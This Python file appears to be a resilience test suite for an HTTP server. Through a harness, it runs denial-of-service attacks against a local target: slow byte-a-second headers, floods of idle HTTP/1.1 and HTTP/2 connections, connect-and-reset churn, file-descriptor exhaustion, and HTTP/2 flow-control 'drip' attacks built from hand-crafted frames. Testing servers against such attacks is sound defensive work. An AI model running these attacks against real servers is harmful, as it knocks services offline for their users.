"""Attacks by thousands of connections that do little, and by one that takes its answers byte by byte."""
import select, struct, time
from frames import END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, UPDATE, frame, text
from harness import attack


def hold(target, connections, each_second=b""):
    """Throws away what comes, and notices which connections the node closes, until the attack is over. Each connection sends `each_second`
    once a second."""
    poll, open_ones, due = select.poll(), {}, time.monotonic()
    for connection in connections:
        if connection.is_open:
            open_ones[connection.socket.fileno()] = connection
            poll.register(connection.socket, select.POLLRDHUP | select.POLLIN)
    while not target.is_over:
        if each_second and time.monotonic() >= due:
            due += 1
            for connection in open_ones.values():
                connection.send_some(each_second)
        for file, found in poll.poll(100):
            connection = open_ones[file]
            if found & ~select.POLLIN:
                connection.lost()
            else:
                connection.receive(0)
            if not connection.is_open:
                poll.unregister(file)
                del open_ones[file]
    target.note(held=len(open_ones))
    for connection in open_ones.values():
        connection.close()


def crowd(target, count, data=b"", address=None):
    """`count` connections that each have sent `data`."""
    connections = []
    while len(connections) < count and not target.is_over:
        connections.append(target.connect(address=address))
        if data:
            connections[-1].send_some(data)
    return connections


@attack(cut_within=13, seconds=14)
def header_a_byte_a_second(target):
    """Of HTTP/1.1, on 3,000 connections."""
    hold(target, crowd(target, 3_000, b"GET / HTTP/1.1\r\nHost: x\r\nx: "), each_second=b"y")


@attack()
def one_request_and_then_silence(target):
    """3,000 connections ask once, get their answer, and keep their connection."""
    hold(target, crowd(target, 3_000, b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n"))


@attack(cut_within=13, seconds=14)
def prefaces_and_nothing_else(target):
    """5,000 connections send the preface of HTTP/2, and not even SETTINGS."""
    hold(target, crowd(target, 5_000, PREFACE))


@attack()
def connects_that_close_before_the_answer(target):
    """At least 10,000, half of them by a reset."""
    request, number = b"GET /x HTTP/1.1\r\nHost: x\r\n\r\n", 0
    while number < 10_000 or not target.is_over:
        connection = target.connect()
        connection.send_some(request)
        connection.close(by_reset=number % 2 == 0)
        number += 1


@attack(descriptors=2_000)
def silent_connections_beyond_the_files(target):
    """3,000 connections at 2,000 files, from another address than the honest client's. Each that is refused comes back a second later."""
    held = [target.connect(address="127.0.0.2") for _ in range(3_000)]
    while not target.is_over:
        poll, places = select.poll(), {}
        for place, connection in enumerate(held):
            if connection.is_open:
                places[connection.socket.fileno()] = place
                poll.register(connection.socket, select.POLLRDHUP)
        for file, _ in poll.poll(0):
            held[places[file]].lost()
        for place, connection in enumerate(held):
            if not connection.is_open and not target.is_over:
                held[place] = target.connect(address="127.0.0.2")
        target.pause(1)
    target.note(held=sum(connection.is_open for connection in held))
    for connection in held:
        connection.close()


# A window that opens a byte at a time

MUCH = (1 << 31) - 1


def get(stream, path="/x"):
    """A request whose answer has some hundred bytes."""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\x82\x86\x04" + text(path) + b"\x01\x01x")


def settings(window):
    return frame(SETTINGS, payload=struct.pack(">HI", 4, window))


def update(stream, count):
    return frame(UPDATE, stream=stream, payload=struct.pack(">I", count))


def drip(target, begin, requests, drops):
    """Begins a connection, asks for 999 answers and lets them drip: each of `drops()` allows a few of their bytes. Then it begins again."""
    while not target.is_over:
        connection = target.connect()
        connection.send(PREFACE + begin + requests, read=True)
        connection.receive(0.3)
        for drop in drops():
            if target.is_over or not connection.send(drop, read=True):
                break
            connection.receive(0)
            target.note(drops=1)
        connection.close()


WAITING = b"".join(map(get, range(3, 1_999, 2)))


@attack()
def answers_that_drip_from_the_window_of_a_connection(target):
    """One large answer uses up the window of the connection, and 998 wait behind it. Then the window opens a byte at a time."""
    drip(target, settings(MUCH), get(1, "/openapi.json") + WAITING, lambda: (update(0, 1) * 100 for _ in range(10_000)))


@attack()
def answers_that_drip_from_the_windows_of_streams(target):
    """999 answers wait, and the window of each opens a byte at a time, in turn."""
    drop = b"".join(update(stream, 1) for stream in range(1, 1_999, 2))
    drip(target, settings(0) + update(0, MUCH - 65_535), get(1) + WAITING, lambda: (drop for _ in range(1_000)))


@attack()
def answers_that_drip_from_the_initial_window(target):
    """999 answers wait, and the setting that is the window of all of them grows by a byte at a time."""
    grow = lambda first: b"".join(settings(window) for window in range(first, first + 20))
    drip(target, settings(0) + update(0, MUCH - 65_535), get(1) + WAITING, lambda: map(grow, range(1, 10_000, 20)))
